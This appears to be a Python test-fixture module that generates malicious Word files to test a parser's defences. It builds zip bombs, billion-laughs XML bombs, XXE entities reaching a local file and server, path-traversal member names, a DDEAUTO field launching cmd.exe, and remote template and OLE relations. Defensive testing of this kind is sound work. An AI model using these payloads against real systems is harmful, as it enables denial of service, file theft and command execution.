"""Office files that mean harm, made in code: bombs, traps and references to what is outside. Each maker gives the bytes of one file."""

from __future__ import annotations

import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from typing import NamedTuple

from tests.build_word import changed, docx_of, p, run, tbl, tc, tr, zipped

Maker = Callable[[], bytes]

TEXT = "Mở lớp dạy nghề cho 500 lao động tại tỉnh Sóc Trăng."
MANY = 1_000_000
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


class Outside(NamedTuple):
    """What no file may reach: the address of a file of this machine, and of a server on it."""

    file: str
    server: str


# --- markup ---


def laughs() -> str:
    """A doctype whose entity &z; is three billion letters long."""
    levels = "abcdefghijz"
    steps = "".join(f'<!ENTITY {b} "' + f"&{a};" * 10 + '">' for a, b in itertools.pairwise(levels))
    return f'<!DOCTYPE x [<!ENTITY a "lol lol ">{steps}]>'


def long_entity() -> str:
    """A doctype whose entity &z; is 100 kB long: used 100,000 times it is 10 GB."""
    return f'<!DOCTYPE x [<!ENTITY z "{"l" * 100_000}">]>'


def external(outside: Outside, at: str) -> str:
    """A doctype whose entity &z; is a file or an address, and which is itself to be fetched."""
    address = getattr(outside, at)
    return f'<!DOCTYPE x SYSTEM "{outside.server}x.dtd" [<!ENTITY z SYSTEM "{address}"><!ENTITY % p SYSTEM "{address}">%p;]>'


def with_doctype(doctype: str, inside: str = "&z;") -> Callable[[bytes], bytes]:
    """Puts a doctype in front of a part, and text in the place of TEXT."""
    return lambda old: doctype.encode() + old.replace(TEXT.encode(), inside.encode())


# --- containers ---


def docx(inside: bytes | None = None, **more: bytes) -> bytes:
    """A good Word file with more members."""
    return _with_members(docx_of(p(TEXT)), more)


def _with_members(data: bytes, members: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return zipped({n: archive.read(n) for n in archive.namelist()} | members)


def named(data: bytes, *names: str) -> bytes:
    """A container with members of these names beside its own; as "zipfile" would not write them, they are patched in."""
    out = io.BytesIO(data)
    stand_ins = [f"{n:04d}".ljust(len(name.encode()), "x") for n, name in enumerate(names)]
    with zipfile.ZipFile(out, "a") as archive:
        for stand_in in stand_ins:
            archive.writestr(stand_in, b"<x/>")
    made = out.getvalue()
    for stand_in, name in zip(stand_ins, names, strict=True):
        made = made.replace(stand_in.encode(), name.encode())
    return made


def huge_member(data: bytes, name: str, megabytes: int, filler: bytes = b" ") -> bytes:
    """A container whose member ends with so many megabytes of one letter."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for n in old.namelist():
            with new.open(n, "w", force_zip64=True) as stream:
                stream.write(old.read(n))
                for _ in range(megabytes if n == name else 0):
                    stream.write(filler * (1 << 20))
    return out.getvalue()


def lying(data: bytes, name: str, says: int = 1000) -> bytes:
    """A container that states a small size for a member, in both of its headers."""
    made = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        member = archive.getinfo(name)
        at = made.index(name.encode(), archive.start_dir) - 46
        assert made[at : at + 4] == b"PK\x01\x02"
        extra = struct.unpack_from("<HH", made, at + 28)
        made[at + 24 : at + 28] = struct.pack("<I", says)
        made[member.header_offset + 22 : member.header_offset + 26] = struct.pack("<I", says)
        assert extra
    return bytes(made)


def plain_sizes(data: bytes, name: str, megabytes: int, filler: bytes) -> bytes:
    """As `huge_member`, with the sizes in the headers themselves."""
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        members = {n: old.read(n) for n in old.namelist()}
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    content = members[name]
    packed = packer.compress(content)
    check, size = zlib.crc32(content), len(content)
    for _ in range(megabytes):
        part = filler * ((1 << 20) // len(filler))
        packed += packer.compress(part)
        check, size = zlib.crc32(part, check), size + len(part)
    return _written(members, name, packed + packer.flush(), check, size)


def _written(members: dict[str, bytes], name: str, packed: bytes, check: int, size: int) -> bytes:
    out, directory = bytearray(), bytearray()
    for member, content in members.items():
        method, body, crc, length = (
            (8, packed, check, size) if member == name else (0, content, zlib.crc32(content), len(content))
        )
        raw = member.encode()
        head = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 0x21, crc, len(body), length, len(raw), 0)
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + raw
        out += b"PK\x03\x04" + head + raw + body
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), len(out), 0)
    return bytes(out + directory) + b"PK\x05\x06" + end


def overlapping(data: bytes, members: int) -> bytes:
    """A container whose directory names one packed member many times."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start, count = archive.start_dir, len(archive.namelist())
    directory = data[start : data.index(b"PK\x05\x06", start)]
    first = directory[: directory.index(b"PK\x01\x02", 4)]
    size = len(directory) + members * len(first)
    total = min(count + members, 0xFFFF)
    return (
        data[:start]
        + directory
        + first * members
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, total, total, size, start, 0)
    )


def nested_zip(depth: int) -> bytes:
    """A good Word file that holds a container in a container in …"""
    inner = zipped({f"{n}.bin": bytes(1 << 20) for n in range(8)})
    for _ in range(depth):
        inner = zipped({f"{n}.zip": inner for n in range(8)})
    return docx(**{"word/embeddings/x.zip": inner})


# --- Word ---


def in_package(relations: str, **members: bytes) -> bytes:
    """A good Word file whose main part has more relations."""
    made = changed(
        docx_of(p(TEXT)),
        "word/_rels/document.xml.rels",
        lambda old: old.replace(b"</Rel", relations.encode() + b"</Rel") if b"</Rel" in old else old,
    )
    return _with_members(made, members)


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    """A relation to something outside."""
    return f'<Relationship Id="out{kind}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def reaching_out(outside: Outside) -> bytes:
    """A Word file with a remote template, picture, OLE object, sub-document, frame, chunk, and fields that fetch."""
    kinds = (
        "attachedTemplate",
        "image",
        "oleObject",
        "subDocument",
        "frame",
        "hyperlink",
        "aFChunk",
        "settings",
        "styles",
        "header",
    )
    relations = "".join(relation(kind, f"{outside.server}{kind}.docx") for kind in kinds)
    body = (
        p(TEXT)
        + '<w:altChunk r:id="outaFChunk"/><w:subDoc r:id="outsubDocument"/>'
        + f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{outside.server}i.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        + f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{outside.server}i.png&quot; \\d "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        + '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        + '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="outimage"/></v:shape></w:pict></w:r></w:p>'
    )
    made = changed(
        docx_of(body), "word/_rels/document.xml.rels", lambda old: old.replace(b"</Rel", relations.encode() + b"</Rel")
    )
    settings = f'<w:settings xmlns:w="x" xmlns:r="{_OFFICE}"><w:attachedTemplate r:id="outattachedTemplate"/></w:settings>'.encode()
    return _with_members(
        made,
        {
            "word/settings.xml": settings,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2000),
            "word/embeddings/oleObject1.bin": bytes(2000),
        },
    )


def _ring_of_styles() -> bytes:
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>'
        for n in range(50)
    )
    own = '<w:style w:type="paragraph" w:styleId="me"><w:basedOn w:val="me"/><w:link w:val="me"/></w:style>'
    return docx_of(p(TEXT, '<w:pStyle w:val="s0"/>') + p(TEXT, '<w:pStyle w:val="me"/>'), styles=ring + own)


def _ring_of_lists() -> bytes:
    lists = "".join(
        f'<w:abstractNum w:abstractNumId="{n}"><w:numStyleLink w:val="l{n}"/></w:abstractNum><w:num w:numId="{n + 1}"><w:abstractNumId w:val="{n}"/></w:num>'
        for n in range(3)
    )
    styles = "".join(
        f'<w:style w:type="numbering" w:styleId="l{n}"><w:pPr><w:numPr><w:numId w:val="{(n + 1) % 3 + 1}"/></w:numPr></w:pPr></w:style>'
        for n in range(3)
    )
    return docx_of(
        p(TEXT, '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'), numbering=lists, styles=styles
    )


def _list_from_a_billion(kind: str) -> bytes:
    level = f'<w:lvl w:ilvl="0"><w:start w:val="1000000000"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{"%1" * 9}."/></w:lvl>'
    numbering = f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="99999999"><w:lvl/></w:lvlOverride></w:num>'
    return docx_of(p(TEXT, '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>') * 300, numbering=numbering)


def _wide_table() -> bytes:
    cell = tc(TEXT, '<w:gridSpan w:val="1000000000"/><w:vMerge w:val="restart"/>')
    below = tc("", '<w:gridSpan w:val="1000000000"/><w:vMerge/>')
    return docx_of(
        p(TEXT) + tbl(*[tr(*[cell] * 20, properties='<w:gridBefore w:val="1000000000"/>'), *[tr(*[below] * 20)] * 300])
    )


def _tables_in_tables(depth: int) -> bytes:
    return docx_of(p(TEXT) + "<w:tbl><w:tr><w:tc>" * depth + p(TEXT) + "</w:tc></w:tr></w:tbl>" * depth)


def _open_fields(count: int) -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF x </w:instrText></w:r>'
    return docx_of(p(TEXT) + f"<w:p>{begin * count}</w:p>" + p(TEXT) * count)


WORD: dict[str, Maker] = {
    "a member of 10 GB": lambda: huge_member(docx(), "word/document.xml", 400),
    "a member that lies of its size": lambda: lying(
        plain_sizes(docx(), "word/document.xml", 400, b" "), "word/document.xml"
    ),
    "many members of 100 MB": lambda: overlapping(plain_sizes(docx(), "[Content_Types].xml", 100, b" "), 1000),
    "60,000 members": lambda: zipped({"word/document.xml": b"<x/>"} | {f"{n}.xml": b"<x/>" for n in range(60_000)}),
    "containers in containers": lambda: nested_zip(6),
    "names that lead outside": lambda: named(
        docx(),
        "../../../../tmp/hostile-out.xml",
        "/tmp/hostile-out.xml",
        "C:\\hostile.xml",
        "word/\0/hostile.xml",
        "..\\..\\hostile.rels",
    ),
    "laughs in the document": lambda: changed(docx(), "word/document.xml", with_doctype(laughs())),
    "laughs in an attribute": lambda: changed(
        docx_of(p(TEXT, '<w:pStyle w:val="&z;"/>')), "word/document.xml", with_doctype(laughs(), TEXT)
    ),
    "laughs in a relation": lambda: changed(docx(), "word/_rels/document.xml.rels", with_doctype(laughs())),
    "laughs in the kinds": lambda: changed(
        docx(), "[Content_Types].xml", lambda old: laughs().encode() + old.replace(b"application/xml", b"&z;")
    ),
    "laughs in the notes": lambda: changed(
        docx_of(p(TEXT), footnotes=f'<w:footnote w:id="&z;">{p("&z;")}</w:footnote>'),
        "word/footnotes.xml",
        with_doctype(laughs()),
    ),
    "laughs in a header": lambda: changed(
        docx_of(p(TEXT), header1=f'<w:p w:x="&z;">{run("&z;")}</w:p>'), "word/header1.xml", with_doctype(laughs())
    ),
    "a long entity, often": lambda: changed(docx(), "word/document.xml", with_doctype(long_entity(), "&z;" * 100_000)),
    "a long entity, often, in attributes": lambda: changed(
        docx_of(p(TEXT), header1="<w:p>" + "<w:x w:val='&z;'/>" * 100_000 + "</w:p>"),
        "word/header1.xml",
        with_doctype(long_entity()),
    ),
    "spans of a billion": _wide_table,
    "styles in a ring": _ring_of_styles,
    "lists in a ring": _ring_of_lists,
    "letters from a billion": partial(_list_from_a_billion, "upperLetter"),
    "Roman figures from a billion": partial(_list_from_a_billion, "upperRoman"),
    "tables in tables": partial(_tables_in_tables, 3000),
    "80 tables in tables": partial(_tables_in_tables, 80),
    "inserted in inserted": lambda: docx_of(p(TEXT) + "<w:ins>" * 5000 + p(TEXT) + "</w:ins>" * 5000),
    "200 inserted in inserted": lambda: docx_of(p(TEXT) + "<w:ins>" * 200 + p(TEXT) + "</w:ins>" * 200),
    "fields never closed": partial(_open_fields, 20_000),
    "a document of attributes": lambda: docx_of(
        p(TEXT) + "<w:p " + " ".join(f'w:a{n}="{n}"' for n in range(200_000)) + "/>"
    ),
    "a million paragraphs": lambda: docx_of(p(TEXT) + "<w:p><w:r><w:t>Mở lớp.</w:t></w:r></w:p>" * MANY),
    "a table of a million cells": lambda: docx_of(p(TEXT) + tbl(*[tr(*["x"] * 20)] * 50_000)),
}
